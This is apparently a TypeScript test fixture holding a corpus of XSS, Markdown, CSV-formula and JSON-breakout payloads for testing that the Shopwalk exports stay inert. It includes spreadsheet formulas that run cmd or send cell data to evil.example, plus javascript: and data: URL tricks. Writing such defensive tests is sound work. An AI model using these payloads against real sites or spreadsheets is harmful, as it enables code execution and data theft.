/**
 * Script-injection payloads for the export tests: text a hostile shop page (its title, its URL, its labels, its
 * element text) or a careless colleague (a note, a shop or template name typed or pasted in) could hand Shopwalk,
 * and every export (JSON, CSV, HTML report, Markdown summary) must carry as text and nothing else.
 *
 * The ideas come from the OWASP XSS Filter Evasion Cheat Sheet, OWASP's "CSV Injection" page, PortSwigger's
 * cross-site scripting cheat sheet, the HTML5 Security Cheatsheet (html5sec.org: mutation XSS, breakouts of raw
 * text elements), the CommonMark spec (links, autolinks, raw HTML), 0xsobky's XSS polyglot and the JSON superset
 * proposal of ECMAScript 2019 (U+2028/2029); the strings are our own. A payload that runs script does not call
 * alert(): it sets the canary `top.__shopwalkPwned`, which a browser test reads back, so that a hit is seen even
 * where dialogs are suppressed.
 *
 * Every payload is at most 200 characters (MAX_NAME: it must fit a shop's, a task's and a template's name) and
 * says something besides white space (a template's name is trimmed and must not be empty). Any payload that once
 * got through an export stays here.
 */

/** What a payload does when it runs: a property of the report's top window that a test reads back. */
export const CANARY = '__shopwalkPwned';
const P = `top.${CANARY}=1`;

/** Elements in HTML text, event handlers on every element that fires one without a click. */
const HTML_TEXT = [
  `<script>${P}</script>`,
  `<SCRIPT>${P}</SCRIPT>`,
  `<ScRiPt >${P}</sCrIpT >`,
  `<script/src=data:,${P}></script>`,
  `<script type="text/javascript">${P};</script>`,
  `<script>${P}<!--`,
  `<<script>${P}//<</script>`,
  `<scr<script>ipt>${P}</scr</script>ipt>`,
  `<img src=x onerror=${P}>`,
  `<img src="x" onerror="${P}">`,
  `<IMG SRC=x OnErRoR=${P}>`,
  `<img/src/onerror=${P}>`,
  `<img src=x onerror=top['__shopwalk'+'Pwned']=1>`,
  `<img src=x:x onerror&#x3D;${P}>`,
  `<svg onload=${P}>`,
  `<svg/onload=${P}//`,
  `<svg><script>${P}</script></svg>`,
  `<svg><script href=data:,${P} />`,
  `<svg><animate onbegin=${P} attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to=${P} />`,
  `<svg><a xlink:href="javascript:${P}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${P}></foreignObject></svg>`,
  `<body onload=${P}>`,
  `<body onpageshow=${P}>`,
  `<details open ontoggle=${P}>`,
  `<iframe src="javascript:${P}"></iframe>`,
  `<iframe onload=${P}></iframe>`,
  `<iframe srcdoc="<script>${P}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${P}&gt;"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${P}>`,
  `<math href="javascript:${P}">x</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${P}>x</maction></math>`,
  `<input autofocus onfocus=${P}>`,
  `<select autofocus onfocus=${P}></select>`,
  `<textarea autofocus onfocus=${P}></textarea>`,
  `<video><source onerror=${P}></video>`,
  `<audio src=x onerror=${P}>`,
  `<object data="javascript:${P}"></object>`,
  `<embed src="javascript:${P}">`,
  `<marquee onstart=${P}>x</marquee>`,
  `<xss id=x tabindex=1 onfocus=${P} autofocus></xss>`,
  `<a href="javascript:${P}">Zur Kasse</a>`,
  `<form action="javascript:${P}"><button>Kaufen</button></form>`,
  `<button formaction="javascript:${P}">Kaufen</button>`,
  `<base href="javascript:${P}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
];

/** Raw-text and escapable raw-text elements, foreign content and tables, closed early to start markup. */
const BREAKOUTS = [
  `</title><script>${P}</script>`,
  `</TITLE ><img src=x onerror=${P}>`,
  `</textarea><script>${P}</script>`,
  `</style><script>${P}</script>`,
  `</noscript><img src=x onerror=${P}>`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
  `<template><script>${P}</script></template>`,
  `</template><img src=x onerror=${P}>`,
  `</xmp><script>${P}</script>`,
  `<plaintext><script>${P}</script>`,
  `</iframe><script>${P}</script>`,
  `</noembed><img src=x onerror=${P}>`,
  `</noframes><img src=x onerror=${P}>`,
  `</select><img src=x onerror=${P}>`,
  `</option></select><svg onload=${P}>`,
  `</table><img src=x onerror=${P}>`,
  `</td></tr></table><svg onload=${P}>`,
  `</svg><img src=x onerror=${P}>`,
  `</title></text></g></svg><img src=x onerror=${P}>`,
  `</math><img src=x onerror=${P}>`,
  `</p></article></section></main></body><script>${P}</script>`,
  `</span></a><img src=x onerror=${P}>`,
];

/** Closing a script element in every way the tokenizer accepts: any case, spaces, slashes, tabs, line breaks. */
const SCRIPT_CLOSERS = [
  `</script><script>${P}</script>`,
  `</SCRIPT><script>${P}</script>`,
  `</ScRiPt><img src=x onerror=${P}>`,
  `</script ><img src=x onerror=${P}>`,
  `</script/><img src=x onerror=${P}>`,
  `</script\t><img src=x onerror=${P}>`,
  `</script\n><img src=x onerror=${P}>`,
  `</script/x><svg onload=${P}>`,
  `</script foo="bar"><svg onload=${P}>`,
];

/** Attribute values left in every way: double and single quotes, unquoted, with a backtick, as entities. */
const ATTRIBUTES = [
  `"><script>${P}</script>`,
  `'><script>${P}</script>`,
  `"><svg onload=${P}>`,
  `' ><img src=x onerror=${P}>`,
  `" onmouseover="${P}`,
  `' onmouseover='${P}`,
  `x onmouseover=${P}`,
  `x/onmouseover=${P}`,
  `" autofocus onfocus="${P}" x="`,
  `' autofocus onfocus='${P}' x='`,
  `"/onload=${P}//`,
  `\` onerror=${P} x=\``,
  `x" src=x onerror="${P}`,
  `" style="background:url(javascript:${P})`,
  `" href="javascript:${P}`,
  `" srcdoc="<script>${P}</script>`,
  `&quot; onmouseover=&quot;${P}`,
  `&#34;&#62;&#60;script&#62;${P}&#60;/script&#62;`,
  `"\0onload="${P}`,
];

/** Schemes that run or load something, however spelt: case, white space, entities, percent-encoding. */
const URLS = [
  `javascript:${P}`,
  `JaVaScRiPt:${P}`,
  ` javascript:${P}`,
  `\tjavascript:${P}`,
  `java\tscript:${P}`,
  `java\nscript:${P}`,
  `java\rscript:${P}`,
  `\x01javascript:${P}`,
  `jav&#x09;ascript:${P}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${P}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${P}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${P}`,
  `javascript&colon;${P}`,
  `javascript://%0a${P}`,
  `javascript:%74op.${CANARY}=1`,
  `%6A%61%76%61%73%63%72%69%70%74:${P}`,
  `data:text/html,<script>${P}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuX19zaG9wd2Fsa1B3bmVkPTE8L3NjcmlwdD4=`,
  `DATA:text/html,<svg onload=${P}>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${P}"/>`,
  `vbscript:msgbox(1)`,
  `VBScript:Execute("msgbox 1")`,
  `livescript:${P}`,
  `file:///etc/passwd`,
  `//evil.example/x.js`,
  `https://evil.example/"><script>${P}</script>`,
  `https://shop.example/search?q="><img src=x onerror=${P}>`,
  `https://shop.example/#<svg onload=${P}>`,
  `http://evil.example/x?' onmouseover='${P}`,
  `https://user:pass@evil.example/x`,
];

/** Styles that run script (old IE) or load something: expression(), url(), @import, bindings. */
const CSS = [
  `<style>body{background:url(https://evil.example/x.png)}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{x:expression(${P})}</style>`,
  `<div style="width:expression(${P})">x</div>`,
  `<div style="background-image:url(javascript:${P})">x</div>`,
  `<p style="x:expr/**/ession(${P})">x</p>`,
  `<style>li{list-style-image:url("javascript:${P}")}</style><ul><li>x</ul>`,
  `<div style="behavior:url(https://evil.example/x.htc)">x</div>`,
  `<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>`,
  `<svg><style>@import url(https://evil.example/x.css)</style></svg>`,
  `<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>`,
  `background:url("javascript:${P}");color:red`,
];

/** Comments, CDATA, processing instructions and conditional comments that end early or hide markup. */
const COMMENTS = [
  `<!--<script>${P}</script>-->`,
  `--><script>${P}</script>`,
  `--!><img src=x onerror=${P}>`,
  `<!--><svg onload=${P}>`,
  `<!-- x --!><img src=x onerror=${P}>`,
  `<![CDATA[<script>${P}</script>]]>`,
  `<svg><![CDATA[><img src=x onerror=${P}>]]></svg>`,
  `]]><script>${P}</script>`,
  `<?xml version="1.0"?><img src=x onerror=${P}>`,
  `<![if true]><img src=x onerror=${P}><![endif]>`,
  `<!DOCTYPE html><script>${P}</script>`,
];

/** Polyglots that work in several contexts at once, and escapes from JavaScript strings and templates. */
const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${P} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${P}//>\\x3e`,
  `'">><marquee><img src=x onerror=${P}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${P}>`,
  `-->'"/></sCript><svG x=">" onload=(${P})>`,
  `"'--></style></script><script>${P}</script>`,
  `'-(${P})-'`,
  `';${P};//`,
  `";${P};//`,
  `\\';${P};//`,
  `\${${P}}`,
  `{{constructor.constructor('${P}')()}}`,
  `#{${P}}`,
  `<%= ${P} %>`,
];

/** Text that decoders, normalisers or careless escaping could turn into markup: encodings, invisible characters. */
const ENCODINGS = [
  `<scr\0ipt>${P}</scr\0ipt>`,
  `\0<script>${P}</script>`,
  `<img src=x onerror\0=${P}>`,
  `\uFF1Cscript\uFF1E${P}\uFF1C/script\uFF1E`,
  `\\u003cscript\\u003e${P}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${P}\\x3c/script\\x3e`,
  `%3Cscript%3E${P}%3C/script%3E`,
  `%253Cscript%253E${P}%253C/script%253E`,
  `&lt;script&gt;${P}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${P}&amp;gt;`,
  `+ADw-script+AD4-${P}+ADw-/script+AD4-`,
  `\uFEFF<script>${P}</script>`,
  `<scr\u200Bipt>${P}</scr\u200Bipt>`,
  `Regenjacke \u202Egpj.exe`,
  `<\u0338script>${P}</script>`,
  `\u00A0<img\u00A0src=x\u00A0onerror=${P}>`,
  `<img src=x onerror=\u0085${P}>`,
  `\x1b[31mrot\x1b[0m <b>fett</b>`,
];

/** Markdown that would make a link, an image, HTML, a heading, a table row or emphasis out of page text. */
const MARKDOWN = [
  `[Gutschein](javascript:${P})`,
  `[Gutschein](https://evil.example "Titel")`,
  `![pixel](https://evil.example/pixel.png)`,
  `![x](javascript:${P})`,
  `<https://evil.example/>`,
  `<javascript:${P}>`,
  `[x][ref]\n\n[ref]: javascript:${P}`,
  `[ref]: https://evil.example/`,
  `[x](<javascript:${P}>)`,
  `[x](java&#115;cript:${P})`,
  `\\[x](javascript:${P})`,
  `\\\\<script>${P}</script>`,
  `[![x](https://evil.example/a.png)](https://evil.example/)`,
  `<details><summary>mehr</summary><img src=x onerror=${P}></details>`,
  `**fett** _kursiv_ ~~weg~~ \`code\``,
  `\`\`\`\n<script>${P}</script>\n\`\`\``,
  `| a | b |\n|---|---|\n| <img src=x onerror=${P}> | x |`,
  `x | y | z`,
  `# Sale`,
  `> Zitat\n> <svg onload=${P}>`,
  `- [ ] Aufgabe\n- [x] erledigt`,
  `1. eins\n2. zwei`,
  `---\n===`,
  `Fußnote[^1]\n\n[^1]: <script>${P}</script>`,
  `<!-- versteckt --> sichtbar`,
  `a_b_c *d* \`e\``,
];

/** Cells a spreadsheet would read as a formula, with quotes, separators and line breaks around them. */
const CSV = [
  `=1+1`,
  `=HYPERLINK("https://evil.example/?leak="&A1,"Details")`,
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `"=1+1"`,
  `'=1+1`,
  `=1+1,=2+2`,
  `=1+1;=2+2`,
  `=1+1\r\n=2+2`,
  `"\r\n=1+1`,
  `";=1+1;"`,
  `=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")`,
  `=WEBSERVICE("https://evil.example/")`,
  `=DDE("cmd";"/C calc";"A0")`,
  `@cmd|'/c calc'!_xlbgnm.A1`,
  `=-1`,
  `-1`,
  `+49 30 1234567`,
  `\uFF1D1+1`,
  ` =1+1`,
  `\0=1+1`,
];

/** Text that closes a script element or a JavaScript string where JSON is embedded in HTML. */
const JSON_BREAKERS = [
  `{"a":"</script><script>${P}</script>"}`,
  `<!--<script>`,
  `\u2028${P}\u2029`,
  `a\u2028b\u2029c`,
  `"},"__proto__":{"polluted":true},"x":{"`,
  `{"constructor":{"prototype":{"polluted":true}}}`,
  `\\"};${P};//`,
  `</SCRIPT\n>`,
  `\\u003c/script\\u003e`,
];

/** Every payload, in groups by the context it is made for. */
export const INJECTION_GROUPS: Readonly<Record<string, readonly string[]>> = {
  'html text': HTML_TEXT,
  breakouts: BREAKOUTS,
  'script closers': SCRIPT_CLOSERS,
  attributes: ATTRIBUTES,
  urls: URLS,
  css: CSS,
  comments: COMMENTS,
  polyglots: POLYGLOTS,
  encodings: ENCODINGS,
  markdown: MARKDOWN,
  csv: CSV,
  'json breakers': JSON_BREAKERS,
};

/** The corpus: every payload once. */
export const INJECTION_CORPUS: readonly string[] = Object.values(INJECTION_GROUPS).flat();
